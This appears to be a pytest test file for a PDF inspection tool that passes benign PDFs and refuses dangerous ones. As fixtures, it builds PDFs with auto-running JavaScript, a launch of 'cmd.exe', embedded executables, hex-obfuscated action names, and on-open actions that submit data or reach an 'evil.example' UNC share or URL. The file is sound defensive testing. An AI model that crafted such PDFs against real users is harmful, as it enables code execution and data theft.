"""PDF: forms, links and restricted printing pass; what runs, hides or needs a password does not."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.constants import UserAccessPermissions
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from inspection.kinds import PDF
from inspection.refusals import Reason
from tests.inspection.samples import pdf, verdict

SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}


def object_of(value):
    if isinstance(value, dict):
        return DictionaryObject({NameObject(name): object_of(each) for name, each in value.items()})
    if isinstance(value, list):
        return ArrayObject([object_of(each) for each in value])
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return NumberObject(value) if isinstance(value, int) else value


def in_catalogue(**entries):
    def change(writer: PdfWriter) -> None:
        writer._root_object.update(object_of({f"/{name}": value for name, value in entries.items()}))

    return lambda: pdf(change)


def in_annotation(**entries):
    def change(writer: PdfWriter) -> None:
        entry = {"/Type": "/Annot", "/Rect": [0, 0, 9, 9]} | {
            f"/{name}": each for name, each in entries.items()
        }
        annotation = writer._add_object(object_of(entry))
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])

    return lambda: pdf(change)


def with_link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://oecd.org/"))


def with_form(writer: PdfWriter) -> None:
    field = {"/FT": "/Tx", "/T": "Name", "/V": "Ana", "/Subtype": "/Widget", "/Rect": [0, 0, 9, 9]}
    found = writer._add_object(object_of(field))
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([found])}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([found])


def with_xfa(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream.set_data(b"<xdp/>")
    form = DictionaryObject({NameObject("/XFA"): writer._add_object(stream)})
    writer._root_object[NameObject("/AcroForm")] = form


def with_loop(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/Me")] = writer._root_object.indirect_reference


def with_circle(writer: PdfWriter) -> None:
    action = object_of({"/S": "/GoTo"})
    action[NameObject("/Next")] = writer._add_object(action)
    writer._root_object[NameObject("/OpenAction")] = action.raw_get("/Next")


def with_kind_elsewhere(writer: PdfWriter) -> None:
    action = object_of({"/F": "cmd.exe"})
    action[NameObject("/S")] = writer._add_object(NameObject("/Launch"))
    writer._root_object[NameObject("/Outlines")] = object_of({"/First": {"/A": action}})


def without_printing(algorithm: str = "AES-256") -> bytes:
    may = UserAccessPermissions.all() & ~UserAccessPermissions.PRINT
    return pdf(user_password="", owner_password="owner", permissions_flag=may, algorithm=algorithm)


ORDINARY = {
    "plain": pdf,
    "no printing (AES)": without_printing,
    "no printing (RC4)": lambda: without_printing("RC4-128"),
    "link": lambda: pdf(with_link),
    "form": lambda: pdf(with_form),
    "loop": lambda: pdf(with_loop),
    "bytes before": lambda: b"\xef\xbb\xbf\r\n" + pdf(),
    "no scripts left": in_catalogue(Names={"/JavaScript": {"/Names": []}, "/EmbeddedFiles": {"/Names": []}}),
    "opens at a page": in_catalogue(OpenAction=[0, "/Fit"]),
    "goes to a page on opening": in_catalogue(OpenAction={"/S": "/GoTo", "/D": [0, "/Fit"]}),
    "goes on": in_catalogue(OpenAction={"/S": "/Named", "/N": "/NextPage", "/Next": {"/S": "/GoTo"}}),
    "site, mail or file on a click": in_annotation(
        Subtype="/Link", A={"/S": "/URI", "/URI": "mailto:a@example.org", "/Next": [{"/S": "/GoToR"}]}
    ),
    "actions in a circle": lambda: pdf(with_circle),
}


@pytest.mark.parametrize("case", ORDINARY)
def test_ordinary_pdf_passes(case):
    found = verdict(ORDINARY[case]())

    assert (found.kind, found.reason) == (PDF, "")


REFUSED = {
    "password": (lambda: pdf(user_password="secret"), Reason.ENCRYPTED),
    "script on opening": (in_catalogue(OpenAction=SCRIPT), Reason.JAVASCRIPT),
    "script on closing": (in_catalogue(AA={"/WC": SCRIPT}), Reason.JAVASCRIPT),
    "script in the tree of names": (
        in_catalogue(Names={"/JavaScript": {"/Names": ["a", SCRIPT]}}),
        Reason.JAVASCRIPT,
    ),
    "script after another action": (
        in_catalogue(OpenAction={"/S": "/GoTo", "/Next": [SCRIPT]}),
        Reason.JAVASCRIPT,
    ),
    "script in a bookmark": (in_catalogue(Outlines={"/First": {"/A": SCRIPT}}), Reason.JAVASCRIPT),
    "script in an annotation": (in_annotation(Subtype="/Widget", A=SCRIPT), Reason.JAVASCRIPT),
    "script in a field": (in_catalogue(AcroForm={"/Fields": [{"/AA": {"/C": SCRIPT}}]}), Reason.JAVASCRIPT),
    "program": (in_catalogue(OpenAction={"/S": "/Launch", "/F": "cmd.exe"}), Reason.LAUNCH),
    "form of the kind XFA": (lambda: pdf(with_xfa), Reason.XFA),
    "XFA in parts": (in_catalogue(AcroForm={"/XFA": ["template", 0]}), Reason.XFA),
    "film": (in_annotation(Subtype="/RichMedia"), Reason.MEDIA),
    "pinned file": (in_annotation(Subtype="/FileAttachment"), Reason.ATTACHMENT),
    "attached file": (lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), Reason.ATTACHMENT),
    "program whose kind stands elsewhere": (lambda: pdf(with_kind_elsewhere), Reason.LAUNCH),
    "cut off": (lambda: pdf()[:200], Reason.BROKEN),
    "nothing but a start": (lambda: b"%PDF-1.7\n", Reason.BROKEN),
}


@pytest.mark.parametrize("case", REFUSED)
def test_pdf_is_refused_with_its_own_reason(case):
    make, reason = REFUSED[case]

    assert verdict(make()).reason == reason


LEAVES = {
    "share": {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\a.pdf", "/D": [0, "/Fit"]},
    "site": {"/S": "/URI", "/URI": "https://evil.example/"},
    "form": {"/S": "/SubmitForm", "/F": "https://evil.example/"},
    "article": {"/S": "/Thread", "/F": "\\\\evil.example\\share\\a.pdf"},
    "unknown": {"/S": "/Whatever"},
}
STARTS = {
    "opening": lambda action: in_catalogue(OpenAction=action),
    "opening, then": lambda action: in_catalogue(OpenAction={"/S": "/GoTo", "/Next": action}),
    "opening, then a list": lambda action: in_catalogue(OpenAction={"/S": "/GoTo", "/Next": [{}, action]}),
    "printing": lambda action: in_catalogue(AA={"/WP": action}),
    "page": lambda action: (
        lambda: pdf(lambda writer: writer.pages[0].update(object_of({"/AA": {"/O": action}})))
    ),
    "annotation": lambda action: in_annotation(Subtype="/Widget", AA={"/PO": action}),
    "on a click too": lambda action: lambda: pdf(lambda writer: with_same_twice(writer, action)),
}


def with_same_twice(writer: PdfWriter, action: dict) -> None:
    shared = writer._add_object(object_of(action))
    writer._root_object.update(object_of({"/Outlines": {"/First": {"/A": shared}}, "/OpenAction": shared}))


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("leaves", LEAVES)
def test_pdf_that_leaves_itself_without_a_click_is_refused(leaves, start):
    assert verdict(STARTS[start](LEAVES[leaves])()).reason == Reason.STARTS


@pytest.mark.parametrize("start", STARTS)
def test_pdf_that_fetches_data_without_a_click_is_refused(start):
    assert verdict(STARTS[start]({"/S": "/ImportData", "/F": "a.fdf"})()).reason == Reason.LAUNCH


@pytest.mark.parametrize("name", [b"/J#61vaScript", b"/#4aavaScript"])
def test_script_whose_name_is_written_in_another_way_is_found(name):
    content = in_catalogue(OpenAction=SCRIPT)().replace(b"/JavaScript", name)

    assert verdict(content).reason == Reason.JAVASCRIPT


def test_script_in_a_compressed_object_is_found():
    """Half of all PDFs keep their objects in streams."""
    content = packed_objects(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            4: b"<</S/JavaScript/JS(x)>>",
        }
    )
    assert len(PdfReader(io.BytesIO(content)).pages) == 1

    assert verdict(content).reason == Reason.JAVASCRIPT


def packed_objects(objects: dict[int, bytes]) -> bytes:
    """A PDF 1.5 with all objects in one stream, and its table of objects in another."""
    places, body = [], b""
    for number, text in objects.items():
        places.append(f"{number} {len(body)}")
        body += text + b" "
    head = " ".join(places).encode() + b" "
    packed = head + body
    out = b"%PDF-1.5\n"
    stream_at = len(out)
    out += b"5 0 obj<</Type/ObjStm/N %d/First %d/Length %d>>stream\n" % (len(objects), len(head), len(packed))
    out += packed + b"\nendstream endobj\n"
    table_at = len(out)
    rows = [b"\0\0\0\0"] + [b"\2\0\5" + bytes([index]) for index in range(len(objects))]
    rows += [b"\1" + stream_at.to_bytes(2, "big") + b"\0", b"\1" + table_at.to_bytes(2, "big") + b"\0"]
    table = b"".join(rows)
    out += b"6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table_at
